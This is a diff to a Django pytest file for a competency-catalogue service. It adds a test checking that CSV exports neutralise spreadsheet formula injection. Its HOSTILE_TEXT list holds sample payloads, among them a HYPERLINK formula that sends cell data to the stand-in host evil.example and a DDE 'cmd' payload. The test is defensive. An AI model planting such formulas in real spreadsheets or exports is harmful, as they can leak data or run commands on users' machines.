@@ -1,5 +1,7 @@
 """Catalogue import and export: every bad file refused with nothing written."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -10,6 +12,7 @@ from competencies.services.catalogue_export import framework_export_csv, framewo
 from competencies.services.catalogue_files import CSV_COLUMNS, parse_csv, parse_fixture
 from competencies.services.catalogue_import import catalogue_apply
 from competencies.services.imports import catalogue_import_apply, catalogue_import_create
+from core.spreadsheets import FORMULA_TRIGGERS
 
 pytestmark = pytest.mark.django_db
 
@@ -212,7 +215,7 @@ def test_export_then_import_into_an_empty_database_gives_the_same_catalogue(cata
 
 def test_csv_export_has_the_documented_columns(catalogues):
     text = framework_export_csv(framework=Framework.objects.get(slug="cmpsa"))
-    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
+    assert text.splitlines()[0] == ",".join(f'"{column}"' for column in CSV_COLUMNS)
     assert len(text.splitlines()) == 1 + 107
 
 
@@ -233,3 +236,43 @@ def test_alignment_to_a_missing_item_is_refused(catalogues):
     )
     with pytest.raises(CatalogueFileError, match="no item 99.9 of cmpsa v1"):
         catalogue_apply(data=parse_fixture(content.encode()))
+
+
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "'plain",
+]
+
+
+def test_a_csv_export_of_hostile_text_has_no_formula_and_imports_back_unchanged(admin_user):
+    rows = "".join(
+        f'local-skills,1,Listening,1.{n},"item {n}",{n}\n' for n in range(len(HOSTILE_TEXT))
+    )
+    catalogue_apply(data=parse_csv((HEADER + rows).encode()))
+    framework = Framework.objects.get(slug="local-skills")
+    for n, text in enumerate(HOSTILE_TEXT):
+        Item.objects.filter(framework=framework, code=f"1.{n}").update(
+            text=text, description=text, examples=text
+        )
+    Domain.objects.filter(framework=framework).update(title="=1+1", description="@x")
+    Framework.objects.filter(pk=framework.pk).update(name="-x", description="+y")
+
+    def catalogue():
+        fw = Framework.objects.get(slug="local-skills")
+        domains = sorted(fw.domains.values_list("code", "title", "description"))
+        items = sorted(fw.items.values_list("code", "text", "description", "examples"))
+        return fw.name, fw.description, domains, items
+
+    expected = catalogue()
+    exported = framework_export_csv(framework=Framework.objects.get(pk=framework.pk))
+    for row in list(csv.reader(io.StringIO(exported)))[1:]:
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), row
+    Framework.objects.all().delete()
+    catalogue_apply(data=parse_csv(exported.encode()))
+    assert catalogue() == expected
